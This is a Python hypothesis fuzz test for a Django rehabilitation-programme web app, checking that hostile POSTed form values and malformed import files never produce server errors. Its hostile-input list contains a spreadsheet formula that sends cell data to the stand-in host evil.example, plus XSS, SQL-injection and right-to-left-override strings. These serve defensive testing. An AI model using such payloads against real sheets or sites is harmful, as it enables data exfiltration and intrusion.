"""Hostile values POSTed to the main forms never answer 5xx (hypothesis).

Each form's field names are read from its own page, then hypothesis fills them with formula
prefixes, NUL bytes, very long strings, odd unicode, out-of-range dates and numbers. A form
may refuse (200/400 with messages), redirect or forbid; it may never crash.
(Query strings are fuzzed by another test; this one is about POSTed forms.)
"""

import datetime as dt
import os
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from hypothesis import HealthCheck
from hypothesis import given
from hypothesis import settings
from hypothesis import strategies as st

from rutan.roles import Role
from tests.factories import AgreementFactory
from tests.factories import EnrollmentFactory
from tests.factories import EvaluationFactory
from tests.factories import ParticipantFactory
from tests.factories import SessionFactory
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

EXAMPLES = int(os.environ.get("FUZZ_EXAMPLES", "25"))  # per form; 40 was run too: 0 5xx
FIELD_NAME = re.compile(r'<(?:input|select|textarea)\b[^>]*\bname="([^"]+)"')
SKIP = {"csrfmiddlewaretoken", "next"}

HOSTILE_TEXT = [
    '=HYPERLINK("http://evil.example/?d="&A2,"Klik")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "\x00",
    "a\x00b",
    "A" * 10_000,
    "9" * 400,
    "‮gnp.exe",
    "𝕏𝖞𝖟 🙂 ﷽",
    "<script>alert(1)</script>",
    "' OR 1=1 --",
    "0001-01-01",
    "9999-12-31",
    "31/02/2025",
    "-1",
    "1e309",
    "NaN",
    " ",
    "",
]
text = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=200)
value = st.one_of(
    st.sampled_from(HOSTILE_TEXT),
    text,
    st.dates(min_value=dt.date(1, 1, 1), max_value=dt.date(9999, 12, 31)).map(str),
    st.integers(min_value=-(10**20), max_value=10**20).map(str),
    st.datetimes(min_value=dt.datetime(1, 1, 1), max_value=dt.datetime(9999, 12, 31)).map(
        lambda d: d.strftime("%Y-%m-%dT%H:%M")
    ),
)


@pytest.fixture
def world(facility, partner):
    participant = ParticipantFactory(facility=facility)
    enrolment = EnrollmentFactory(
        participant=participant,
        cohort__programme__facility=facility,
        cohort__programme__partner=partner,
    )
    session = SessionFactory(cohort=enrolment.cohort)
    return {
        "participant": participant.pk,
        "enrolment": enrolment.pk,
        "cohort": enrolment.cohort_id,
        "session": session.pk,
        "evaluation": EvaluationFactory(enrollment=enrolment).pk,
        "agreement": AgreementFactory(facility=facility, partner=partner).pk,
    }


def valid_participant(world):
    return {
        "name": "Contoh Fiktif",
        "register_type": "A.II",
        "registration_number": "AII.9001/2025",
        "sex": "M",
        "admission_date": "2025-06-01",
    }


def valid_session(world):
    return {
        "cohort": world["cohort"],
        "repeat": "once",
        "date": "2025-11-19",
        "start_time": "09:00",
        "end_time": "11:00",
        "place": "Aula",
    }


# A valid submission to start from, so that hostile values also reach the save paths.
BASELINES = {"participants:create": valid_participant, "sessions:create": valid_session}

# (role, url name, key of the object in `world` or None, page holding the form if elsewhere)
FORMS = [
    (Role.PETUGAS, "participants:create", None),
    (Role.PETUGAS, "participants:edit", "participant"),
    (Role.PETUGAS, "participants:change_register", "participant"),
    (Role.PETUGAS, "participants:screening_create", "participant"),
    (Role.PETUGAS, "participants:consent_create", "participant"),
    (Role.PETUGAS, "participants:integration_create", "participant"),
    (Role.PETUGAS, "sessions:create", None),
    (Role.PETUGAS, "sessions:reschedule", "session"),
    (Role.PETUGAS, "sessions:attendance", "session"),
    (Role.FASILITATOR, "sessions:notes", "session"),
    (Role.FASILITATOR, "rehab:evaluation_create", "enrolment"),
    (Role.FASILITATOR, "rehab:programme_evaluation_create", None),
    (Role.KEPALA, "rehab:agreement_create", None),
    (Role.KEPALA, "rehab:agreement_edit", "agreement"),
    (Role.ADMIN, "rehab:partner_create", None),
    (Role.KEPALA, "two_factor_setup", None),
    (None, "login", None),
]


def user_for(role, facility, partner):
    if role is None:
        return None
    if role == Role.FASILITATOR:
        return UserFactory(role=role, facility=None, partner=partner)
    if role == Role.ADMIN:
        return UserFactory(role=role, facility=None)
    return UserFactory(role=role, facility=facility)


@pytest.mark.parametrize("form", FORMS, ids=[f[1] for f in FORMS])
def test_hostile_posts_never_answer_5xx(client, world, facility, partner, form):
    role, name, key, *page_name = form
    user = user_for(role, facility, partner)
    url = reverse(name, args=[world[key]] if key else [])
    if user:
        client.force_login(user)
    page_url = reverse(page_name[0], args=[world[key]]) if page_name else url
    page = client.get(page_url)
    assert page.status_code == 200, (name, page.status_code)
    fields = sorted(set(FIELD_NAME.findall(page.content.decode())) - SKIP)
    assert fields, name
    seen = []

    @settings(
        max_examples=EXAMPLES,
        deadline=None,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
        database=None,
    )
    @given(st.fixed_dictionaries({}, optional=dict.fromkeys(fields, value)))
    def post(data):
        if user:
            client.force_login(user)  # a login form example may have signed someone out
        baseline = BASELINES.get(name)
        response = client.post(url, {**(baseline(world) if baseline else {}), **data})
        seen.append(response.status_code)
        assert response.status_code < 500, (name, data)

    post()
    print(f"\n{name}: {len(seen)} examples, statuses {sorted(set(seen))}")


@settings(
    max_examples=EXAMPLES,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    database=None,
)
@given(
    content=st.one_of(
        st.binary(max_size=4096),
        st.sampled_from(
            [
                b"PK\x03\x04" + b"\x00" * 100,
                b"no_registrasi,nama\n=1+1,\x00\n",
                "no_registrasi;nama\n‮x;𝕏\n".encode(),
                b"\xff\xfe\x00n\x00o",
            ]
        ),
    ),
    extension=st.sampled_from([".csv", ".xlsx", ".xls", ".txt", ""]),
)
def test_hostile_import_files_never_answer_5xx(client, petugas, settings_media, content, extension):
    client.force_login(petugas)
    upload = SimpleUploadedFile(f"berkas{extension}", content)
    response = client.post(reverse("participants:import"), {"file": upload})
    assert response.status_code < 500


@pytest.fixture
def settings_media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
